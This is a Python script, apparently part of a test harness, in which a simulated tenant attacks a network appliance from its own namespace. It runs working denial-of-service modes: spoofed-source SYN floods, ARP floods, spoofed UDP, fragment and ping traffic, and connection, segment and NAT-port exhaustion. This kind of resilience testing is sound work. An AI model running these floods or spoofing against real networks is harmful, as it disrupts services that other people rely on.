#!/usr/bin/env python3
"""Tenant A's attacks on the appliance, from its consumer network, one
mode a run, each bounded in time.

Usage: tenant_attacks.py MODE SECONDS [ARGS...]   (run in A's namespace)

  synflood SECONDS RATE IFNAME PE_IP PORT
      SYNs from random sources (on the consumer subnet, so the appliance
      must look each up, and off it) and random ports, RATE a second
  idle SECONDS COUNT PE_IP PORT
      COUNT connections with TCP keepalives (1 s), held SECONDS
  tiny SECONDS PE_IP PORT
      one connection, one byte a segment (TCP_NODELAY), for SECONDS
  ooo SECONDS IFNAME MY_IP PE_IP PORT
      user-space connections that send one-byte segments with a hole
      before each (out of order, never completed), for SECONDS
  churn SECONDS PE_IP PORT
      short connections, one after another, each closed at once: every
      one leaves a NAT port held after it
  arpflood SECONDS RATE IFNAME PE_IP
      ARP requests for PE_IP from random senders, RATE a second
  spoof SECONDS IFNAME PE_IP SPOOFED_SRC
      UDP to closed ports, unknown protocols, lone fragments, pings and
      SYNs to closed ports from a provider-network source
  none SECONDS
      nothing: the baseline

Prints one JSON line: what was sent or held.
"""
import json
import os
import random
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
from rawtcp import PSH, SYN, RawConn, RawPeer, csum, ipv4, tcp_segment, udp_datagram  # noqa: E402


def paced(seconds, rate, send_one):
    """Calls send_one() rate times a second for seconds; returns the count."""
    sent, start = 0, time.monotonic()
    while True:
        now = time.monotonic()
        if now - start >= seconds:
            return sent
        due = int((now - start) * rate)
        while sent < due:
            send_one()
            sent += 1
        time.sleep(0.002)


def raw_socket(ifname):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    s.bind((ifname, 0))
    return s


def pe_mac(ifname, pe_ip):
    peer = RawPeer(ifname, "10.0.0.51")
    try:
        return peer.resolve(pe_ip)
    finally:
        peer.close()


def synflood(seconds, rate, ifname, pe_ip, port):
    s = raw_socket(ifname)
    dmac = pe_mac(ifname, pe_ip)
    errors = 0

    def one():
        nonlocal errors
        if random.random() < 0.5:
            src = "10.0.0.%d" % random.randrange(20, 250)
        else:
            src = socket.inet_ntoa(struct.pack("!I", random.getrandbits(32)))
        smac = b"\x02" + os.urandom(5)
        t = tcp_segment(src, pe_ip, random.randrange(1024, 65535), port,
                        random.getrandbits(32), 0, SYN)
        try:
            s.send(dmac + smac + b"\x08\x00" + ipv4(src, pe_ip, 6, t))
        except OSError:
            errors += 1
    sent = paced(seconds, rate, one)
    return {"sent": sent, "send_errors": errors}


def idle(seconds, count, pe_ip, port):
    socks, refused, other = [], 0, 0
    deadline = time.monotonic() + seconds
    for _ in range(count):
        if time.monotonic() >= deadline:
            break
        c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        c.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
        c.setsockopt(socket.IPPROTO_TCP, socket.TCP_KEEPIDLE, 1)
        c.setsockopt(socket.IPPROTO_TCP, socket.TCP_KEEPINTVL, 1)
        c.setsockopt(socket.IPPROTO_TCP, socket.TCP_KEEPCNT, 10)
        c.settimeout(2)
        try:
            c.connect((pe_ip, port))
            c.sendall(b"HOLD\n")
            socks.append(c)
        except ConnectionRefusedError:
            refused += 1
            c.close()
        except OSError:
            other += 1
            c.close()
    while time.monotonic() < deadline:
        time.sleep(0.1)
    alive = 0
    for c in socks:
        try:
            c.setblocking(False)
            alive += 1 if c.recv(1) != b"" else 0
        except BlockingIOError:
            alive += 1
        except OSError:
            pass
        c.close()
    return {"connected": len(socks), "refused": refused, "failed": other, "alive_at_end": alive}


def tiny(seconds, pe_ip, port):
    for attempt in range(3):
        try:
            c = socket.create_connection((pe_ip, port), timeout=5)
            break
        except OSError:
            if attempt == 2:
                raise
            time.sleep(1)
    c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    c.setblocking(False)
    sent, start = 0, time.monotonic()
    while time.monotonic() - start < seconds:
        try:
            sent += c.send(b"x")
        except BlockingIOError:
            time.sleep(0.001)
        except OSError:
            break
    c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    c.close()
    return {"sent_bytes": sent}


def ooo(seconds, ifname, my_ip, pe_ip, port):
    peer = RawPeer(ifname, my_ip)
    conns, segs, start = 0, 0, time.monotonic()
    while time.monotonic() - start < seconds:
        c = RawConn(peer, pe_ip, port)
        try:
            c.connect(timeout=2)
        except (TimeoutError, ConnectionRefusedError):
            continue
        conns += 1
        c.seg(0, PSH, b"HOLD\n")
        # One byte every other byte, from 5 on: the first of each pair is
        # never sent, so none of it can be delivered.
        for off in range(6, 6 + 2 * 2000, 2):
            c.seg(off, PSH, b"o")
            segs += 1
            if time.monotonic() - start >= seconds:
                break
        c.pump(0.05, ack_data=False)
    return {"connections": conns, "segments": segs}


def churn(seconds, pe_ip, port):
    ok, failed, start = 0, {}, time.monotonic()
    while time.monotonic() - start < seconds:
        c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        c.settimeout(2)
        try:
            c.connect((pe_ip, port))
            ok += 1
        except OSError as e:
            k = type(e).__name__
            failed[k] = failed.get(k, 0) + 1
        c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        c.close()
    return {"connected": ok, "failed": failed}


def arpflood(seconds, rate, ifname, pe_ip):
    s = raw_socket(ifname)
    tip = socket.inet_aton(pe_ip)

    def one():
        smac = b"\x02" + os.urandom(5)
        sip = struct.pack("!BBBB", 10, 0, random.randrange(0, 256), random.randrange(1, 255))
        a = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, smac, sip, b"\0" * 6, tip)
        s.send(b"\xff" * 6 + smac + b"\x08\x06" + a)
    return {"sent": paced(seconds, rate, one)}


def spoof(seconds, ifname, pe_ip, spoofed):
    s = raw_socket(ifname)
    dmac = pe_mac(ifname, pe_ip)
    smac = b"\x02" + os.urandom(5)

    def frame(proto, payload, **kw):
        return dmac + smac + b"\x08\x00" + ipv4(spoofed, pe_ip, proto, payload, **kw)

    def echo():
        h = struct.pack("!BBHHH", 8, 0, 0, 0x5151, 1) + b"spoof"
        return h[:2] + struct.pack("!H", csum(h)) + h[4:]
    frames = [
        frame(17, udp_datagram(spoofed, pe_ip, 5353, 9999, b"hello")),
        frame(253, b"unknown protocol"),
        frame(17, udp_datagram(spoofed, pe_ip, 5353, 9999, b"f" * 64), frag=0x2000),
        frame(1, echo()),
        frame(6, tcp_segment(spoofed, pe_ip, 40000, 1, 12345, 0, SYN)),
    ]
    i = 0

    def one():
        nonlocal i
        s.send(frames[i % len(frames)])
        i += 1
    return {"sent": paced(seconds, 500, one)}


def main():
    mode, seconds = sys.argv[1], float(sys.argv[2])
    a = sys.argv[3:]
    if mode == "synflood":
        out = synflood(seconds, int(a[0]), a[1], a[2], int(a[3]))
    elif mode == "idle":
        out = idle(seconds, int(a[0]), a[1], int(a[2]))
    elif mode == "tiny":
        out = tiny(seconds, a[0], int(a[1]))
    elif mode == "ooo":
        out = ooo(seconds, a[0], a[1], a[2], int(a[3]))
    elif mode == "churn":
        out = churn(seconds, a[0], int(a[1]))
    elif mode == "arpflood":
        out = arpflood(seconds, int(a[0]), a[1], a[2])
    elif mode == "spoof":
        out = spoof(seconds, a[0], a[1], a[2])
    elif mode == "none":
        time.sleep(seconds)
        out = {}
    else:
        raise SystemExit("tenant_attacks: unknown mode %r" % mode)
    out["mode"] = mode
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
